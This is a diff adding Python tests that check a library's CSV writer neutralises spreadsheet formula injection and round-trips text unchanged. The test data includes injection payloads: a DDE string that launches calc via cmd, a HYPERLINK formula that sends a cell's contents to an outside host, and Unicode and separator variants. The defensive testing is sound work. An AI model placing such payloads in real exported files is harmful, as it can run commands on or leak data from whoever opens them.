@@ -1,5 +1,6 @@
 """The output folder: names that nothing overwrites and nobody can guess, tables that are never half written, leftovers that go."""
 
+import csv
 import os
 import random
 import re
@@ -15,6 +16,7 @@ from hypothesis import strategies as st
 from PyLogikSlicerLib.errors import PyLogikSlicerError, UsageError
 from PyLogikSlicerLib.report import text_row
 from PyLogikSlicerLib.text_map import Region, polygon_of_box
+from PyLogikSlicerLib.writing.cells import as_cell, from_cell
 from PyLogikSlicerLib.writing.output import (
     CROSSWALK_COLUMNS,
     LOG_COLUMNS,
@@ -188,3 +190,76 @@ def test_the_folder_is_free_again_when_the_run_ends_however_it_ends(tmp_path):
         raise RuntimeError
     with OutputFolder(tmp_path):
         pass
+
+
+# Formulas
+
+
+FORMULAS = (
+    *("=1+1", '=HYPERLINK("http://a.b?"&A1)', "+1-2", "-2+3", "@SUM(1)", "  =1", "\t=1", "\r=1", "\n=1", '"=1"', "\ufeff=1", "\u200b=1"),
+    *(
+        "\uff1d1+1",
+        "\uff0b1",
+        "\uff0d1",
+        "\uff201",
+        "\u22121+1",
+        "\ufe661",
+        "+cmd|' /C calc'!A0",
+        "a;=1+1",
+        "12;-1+1",
+        "a\t=1",
+        "a\n=1",
+        "a; @x",
+    ),
+)
+# Fragments of which a cell that hides a formula can be made.
+formula_like = st.lists(
+    st.sampled_from(("=", "+", "-", "@", "'", "''", '"', ";", ",", "\t", "\n", "\r", " ", "\uff1d", "\u2212", "1", "a")), max_size=10
+)
+
+
+def is_computed(cell: str) -> bool:
+    """Whether a spreadsheet program would compute the cell, or a part of it that it takes for a cell; a plain number is none."""
+    for part in re.split("[;\t\r\n]", cell):
+        shown = part.strip('" \u00a0\u200b\ufeff')
+        if re.match("[=+\\-@\uff1d\uff0b\uff0d\uff20\u2212\ufe66]", shown) and not re.fullmatch(r"[-+]\d+([.,]\d+)?", shown):
+            return True
+    return False
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_text_is_a_formula_in_a_table_and_it_comes_back_as_it_was(tmp_path, text):
+    assert is_computed(text)
+    rows = [dict.fromkeys(LOG_COLUMNS, text)]
+    with OutputFolder(tmp_path) as folder:
+        folder.write_table("log", LOG_COLUMNS, rows)
+        assert folder.read_table("log", LOG_COLUMNS) == rows
+    with open(tmp_path / "phi" / "log.csv", newline="", encoding="utf-8") as file:
+        cells = list(csv.reader(file))[1]
+    assert len(cells) == len(LOG_COLUMNS) and not any(map(is_computed, cells))
+
+
+@given(rows=st.lists(st.tuples(*[st.one_of(formula_like.map("".join), st.text(max_size=20))] * 4), max_size=4))
+def test_tables_without_formulas_come_back_with_quotes_separators_and_lines_in_them(tmp_path_factory, rows):
+    rows = [{column: value.encode("utf-8", "replace").decode() for column, value in zip(LOG_COLUMNS, row, strict=True)} for row in rows]
+    with OutputFolder(tmp_path_factory.mktemp("out")) as folder:
+        folder.write_table("log", LOG_COLUMNS, rows)
+        assert folder.read_table("log", LOG_COLUMNS) == rows
+        with open(folder.phi / "log.csv", newline="", encoding="utf-8") as file:
+            cells = [cell for row in list(csv.reader(file))[1:] for cell in row]
+    assert not any(map(is_computed, cells))
+
+
+@pytest.mark.parametrize("text", ["", "DOE JANE", "-5", "+3.2", "12 cm", "a-b", "1,-2", "O'Brien", "Gain: +5", "x=1"])
+def test_ordinary_text_and_plain_numbers_stay_as_they_are(text):
+    assert as_cell(text) == text == from_cell(text)
+
+
+def test_what_other_programs_read_as_numbers_is_written_as_numbers(tmp_path):
+    region = Region(polygon_of_box((-3, -2, 3, 4)), 0, 5, text="=1+1", confidence=0.5, engine="ppocr x1", reason="text")
+    with OutputFolder(tmp_path) as folder:
+        folder.write_table("text", TEXT_COLUMNS, [text_row("-a", "=/in/a.png", region)])
+    with open(tmp_path / "phi" / "text.csv", newline="", encoding="utf-8") as file:
+        (row,) = csv.DictReader(file)
+    assert (row["x0"], row["y0"], row["polygon"]) == ("-3", "-2", "-3,-2 3,-2 3,4 -3,4")
+    assert (row["name"], row["source"], row["text"]) == ("'-a", "'=/in/a.png", "'=1+1")
